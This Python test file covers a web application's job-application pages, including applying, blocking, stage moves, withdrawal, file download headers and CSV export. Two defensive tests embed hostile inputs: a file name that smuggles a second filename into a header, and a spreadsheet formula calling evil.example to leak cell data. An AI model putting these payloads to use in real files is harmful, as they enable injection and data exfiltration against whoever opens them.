"""The pages around an application, in the browsers of its artist, of the poster, and of people whom it is none of."""

import csv
import io
import re
from pathlib import Path

import pytest

from fedart.domain.applying import Application, Stage
from fedart.domain.job import Job
from fedart.instance import Instance
from fedart.services import applicants, applying, blocks
from tests.support.applying import PDF, applied, out, shown
from tests.support.client import Client
from tests.support.instance import Clock, Person, Studio
from tests.support.remote import count

DAY = 86_400_000


@pytest.fixture
async def jun(make: Studio) -> Person:
    return await make.person("jun")


@pytest.fixture
async def artist(client: Client, make: Studio, clock: Clock, jun: Person) -> Client:
    """The browser of Jun, who applies."""
    return await make.signed_in(client, jun)


@pytest.fixture
async def job(it: Instance, maren: Person, browser: Client) -> Job:
    """Maren's, who is signed in in `browser`."""
    return await out(it, maren)


async def send(make: Studio, artist: Client, job: Job, *files: tuple[str, bytes], **more: str) -> tuple[int, str, str]:
    """Send the form; status, where it leads, and the page."""
    fields = {"csrf": await make.token(artist), "note": "I paint the sea.", "rate": "300 EUR", **more}
    sent = [("pdf", name, data) for name, data in files]
    answer = await artist.upload(f"/jobs/{job.work_id}/apply", list(fields.items()), sent)
    return answer.status, answer.header("location"), answer.text


async def test_an_artist_applies_with_works_words_and_a_file(
    it: Instance, make: Studio, artist: Client, jun: Person, job: Job
) -> None:
    work = await shown(make, jun)
    page = (await artist.page(f"/jobs/{job.work_id}")).text
    assert f'href="/jobs/{job.work_id}/apply"' in page
    form = (await artist.page(f"/jobs/{job.work_id}/apply")).text
    assert f'value="{work}"' in form
    assert "sees only what you send. You can withdraw it; it is deleted then, and in any case 180 days after" in form
    assert "salary" not in form.lower()
    status, to, _ = await send(make, artist, job, ("my work.pdf", PDF), works=work)
    assert status == 303
    page = (await artist.page(to)).text
    for words in ("Your application is sent.", "I paint the sea.", "300 EUR", "Ferry", "my work.pdf", "It was sent."):
        assert words in page, words
    assert "Background painter" in (await artist.page("/applications")).text
    assert "Your application" in (await artist.page(f"/jobs/{job.work_id}")).text
    again = await artist.page(f"/jobs/{job.work_id}/apply")
    assert (again.status, again.header("location")) == (303, to.partition("?")[0])


async def test_everything_that_was_typed_comes_back_with_what_is_wrong(
    make: Studio, artist: Client, jun: Person, job: Job
) -> None:
    work = await shown(make, jun)
    status, _, page = await send(
        make, artist, job, ("cv.pdf", b"<html>"), works=work, start="1 March", note="x" * 3_041
    )
    assert status == 422
    assert "it is 41 over" in page
    assert "This file is no PDF." in page
    assert 'value="1 March"' in page
    assert re.search(rf'value="{work}" checked', page)
    assert "x" * 3_041 in page


async def test_a_file_over_the_limit_comes_back_with_everything_else(make: Studio, artist: Client, job: Job) -> None:
    status, _, page = await send(make, artist, job, ("cv.pdf", PDF + b"0" * 10 * 1_048_576))
    assert status == 422
    assert "Please send a PDF of up to 10 MB." in page


async def test_a_visitor_is_asked_to_sign_in_and_comes_back_to_the_form(client: Client, job: Job) -> None:
    page = (await client.page(f"/jobs/{job.work_id}")).text
    assert f'href="/sign-in?next=/jobs/{job.work_id}/apply"' in page
    assert (await client.page(f"/jobs/{job.work_id}/apply")).status in (303, 401)


async def test_somebody_blocked_finds_a_job_that_takes_no_applications(
    it: Instance, make: Studio, artist: Client, maren: Person, jun: Person, job: Job
) -> None:
    assert "Apply with your portfolio" in (await artist.page(f"/jobs/{job.work_id}")).text
    await blocks.block(it, maren.actor.id, jun.actor.id)
    found = await artist.page(f"/jobs/{job.work_id}")
    assert found.status == 200
    assert "Apply with" not in found.text
    assert "applybox" not in found.text
    assert (await artist.page(f"/jobs/{job.work_id}/apply")).status == 404
    assert (await send(make, artist, job))[0] == 404


async def test_the_poster_reads_moves_and_answers(
    it: Instance, make: Studio, browser: Client, artist: Client, maren: Person, jun: Person, job: Job
) -> None:
    made = await applied(it, jun, job, works=(await shown(make, jun),))
    board = (await browser.page(f"/jobs/{job.work_id}/applicants")).text
    for words in ("1 application, 1 not read", "zanzibarite", "300 EUR a day", f'href="/applications/{made.id}"'):
        assert words in board, words
    assert "They have read it." not in (await artist.page(f"/applications/{made.id}")).text
    page = (await browser.page(f"/applications/{made.id}")).text
    assert "<p>Read</p>" in page
    assert "They have read it." in (await artist.page(f"/applications/{made.id}")).text
    token = {"csrf": await make.token(browser)}
    moved = await browser.post(f"/applications/{made.id}/stage", {**token, "stage": "interview"})
    assert (moved.status, moved.header("location")) == (303, f"/applications/{made.id}")
    assert "They would like to talk to you." in (await artist.page(f"/applications/{made.id}")).text
    assert "They would like to talk to you." in (await artist.page("/notifications")).text
    assert "applied for" in (await browser.page("/notifications")).text
    wrong = await browser.post(f"/applications/{made.id}/stage", {**token, "stage": "fired"})
    assert wrong.status == 422
    back = await browser.post(f"/applications/{made.id}/stage", {**token, "stage": "offer", "back": "1"})
    assert back.header("location") == f"/jobs/{job.work_id}/applicants#a-{made.id}"
    said = await browser.post(f"/applications/{made.id}/answer", {**token, "text": "Monday at nine?"})
    assert "Monday at nine?" in (await artist.page(said.header("location"))).text
    assert said.header("location") in (await artist.page(f"/applications/{made.id}")).text


async def test_a_message_that_cannot_be_sent_comes_back(
    it: Instance, make: Studio, browser: Client, jun: Person, job: Job
) -> None:
    made = await applied(it, jun, job)
    fields = {"csrf": await make.token(browser), "text": "long " * 20_000}
    answer = await browser.post(f"/applications/{made.id}/answer", fields)
    assert answer.status == 422
    assert "Please keep the text under" in answer.text
    assert "long long long" in answer.text
    assert await count(it, "messages", "1") == 0


async def test_many_are_moved_or_declined_with_the_same_words(
    it: Instance, make: Studio, browser: Client, jun: Person, job: Job
) -> None:
    tomas = await make.person("tomas")
    idents: list[str] = [(await applied(it, who, job)).id for who in (jun, tomas)]
    path, token = f"/jobs/{job.work_id}/applicants", {"csrf": await make.token(browser)}
    assert "Thank you for applying for “Background painter”" in (await browser.page(path)).text
    await browser.post(path, {**token, "chosen": idents, "do": "shortlist"})
    assert await count(it, "applications", "stage = 'shortlist'") == 2
    nobody = await browser.post(path, {**token, "text": "My own words", "do": "decline"})
    assert nobody.status == 422
    assert "Please choose one to 50 people." in nobody.text
    assert "My own words" in nobody.text
    empty = await browser.post(path, {**token, "chosen": idents, "text": " ", "do": "decline"})
    assert re.search(rf'value="{idents[0]}" checked', empty.text)
    done = await browser.post(path, {**token, "chosen": idents, "text": "Not this time.", "do": "decline"})
    assert done.header("location") == f"{path}?written=2"
    assert "Your message went to 2 people" in (await browser.page(done.header("location"))).text
    assert await count(it, "applications", "stage = 'declined'") == 2
    assert (await browser.post(path, {**token, "chosen": idents, "do": "new"})).status == 422


async def test_applications_for_another_job_are_not_moved_from_this_page(
    it: Instance, make: Studio, browser: Client, maren: Person, jun: Person, job: Job
) -> None:
    other = await out(it, maren, title="Another")
    made = await applied(it, jun, other)
    token = {"csrf": await make.token(browser)}
    fields = {**token, "chosen": str(made.id), "do": "hired"}
    assert (await browser.post(f"/jobs/{job.work_id}/applicants", fields)).status == 404
    assert (await browser.post(f"/jobs/{other.work_id}/applicants", fields)).status == 303


async def test_withdrawing_is_one_button_and_the_poster_sees_only_that_somebody_did(
    it: Instance, make: Studio, browser: Client, artist: Client, jun: Person, job: Job
) -> None:
    made = await applied(it, jun, job)
    token = {"csrf": await make.token(artist)}
    gone = await artist.post(f"/applications/{made.id}/withdraw", token)
    assert gone.header("location") == "/applications?withdrawn"
    assert (await artist.page(f"/applications/{made.id}")).status == 404
    board = (await browser.page(f"/jobs/{job.work_id}/applicants")).text
    assert "1 was withdrawn" in board
    notes = (await browser.page("/notifications")).text
    assert "Somebody withdrew their application" in notes
    for page in (board, notes):
        assert "jun" not in page.partition("<main")[2]
        assert "zanzibarite" not in page


async def _with_pdf(it: Instance, jun: Person, job: Job, folder: Path, name: str = "portfolio.pdf") -> Application:
    path = folder / name
    path.write_bytes(PDF)
    sent = applying.Enclosure(path, name, len(PDF))
    made = await applied(it, jun, job)
    await applying.withdraw(it, jun.actor.id, made.id)
    return await applying.apply(it, jun.actor.id, job.work_id, made.letter, sent)


async def test_xss_03_a_file_is_saved_and_never_shown(
    it: Instance, browser: Client, artist: Client, jun: Person, job: Job, tmp_path: Path
) -> None:
    made = await _with_pdf(it, jun, job, tmp_path, 'naïve "x"; filename=evil.html')
    for side in (browser, artist):
        answer = await side.page(f"/applications/{made.id}/file")
        assert (answer.status, answer.body) == (200, PDF)
        assert answer.header("content-type") == "application/pdf"
        assert answer.header("content-disposition") == (
            'attachment; filename="application.pdf"; '
            "filename*=UTF-8''na%C3%AFve%20%22x%22%3B%20filename%3Devil.html.pdf"
        )
        assert answer.header("x-content-type-options") == "nosniff"
        assert answer.header("content-security-policy") == "default-src 'none'; sandbox"
        assert answer.header("cache-control") == "private, no-store"


async def test_web_09_nobody_else_gets_the_file(
    it: Instance, client: Client, make: Studio, desk: Client, jun: Person, job: Job, tmp_path: Path
) -> None:
    made = await _with_pdf(it, jun, job, tmp_path)
    other = await make.signed_in(client, await make.person("tomas"))
    for browser in (desk, other):
        assert (await browser.page(f"/applications/{made.id}/file")).status == 404
    assert PDF not in (await client.page(f"/applications/{made.id}/file")).body


async def test_the_table_holds_every_application_and_no_formula(
    it: Instance, make: Studio, clock: Clock, browser: Client, maren: Person, jun: Person, job: Job
) -> None:
    made = []
    for who in (jun, await make.person("tomas")):
        clock.advance(1)
        made.append(await applied(it, who, job, works=(await shown(make, who),)))
    sql = "UPDATE applications SET note = :note, rate = :rate, start = :start WHERE id = :id"
    values = {"note": '=HYPERLINK("https://evil.example?x="&A1)', "rate": "+300", "start": "\tnow"}
    await it.db.write(lambda tx: tx.run(sql, id=made[0].id, **values))
    await applicants.move(it, maren.actor.id, [made[1].id], Stage.DECLINED)
    answer = await browser.page(f"/jobs/{job.work_id}/applicants.csv")
    assert answer.header("content-disposition").startswith("attachment; ")
    assert answer.header("cache-control") == "private, no-store"
    head, later, first = csv.reader(io.StringIO(answer.text, newline=""))
    assert head[:3] == ["Name", "Address", "Stage"]
    assert later[:3] == ["tomas", "tomas@gallery.example", "Declined"]
    assert first[5:8] == ["'+300", "'\tnow", '\'=HYPERLINK("https://evil.example?x="&A1)']
    assert first[8].startswith("https://gallery.example/works/")


async def test_a_job_says_to_its_poster_how_many_applied(it: Instance, browser: Client, jun: Person, job: Job) -> None:
    await applied(it, jun, job)
    page = (await browser.page(f"/jobs/{job.work_id}")).text
    assert f'href="/jobs/{job.work_id}/applicants"' in page
    assert "1 new" in page
    assert "Apply with" not in page
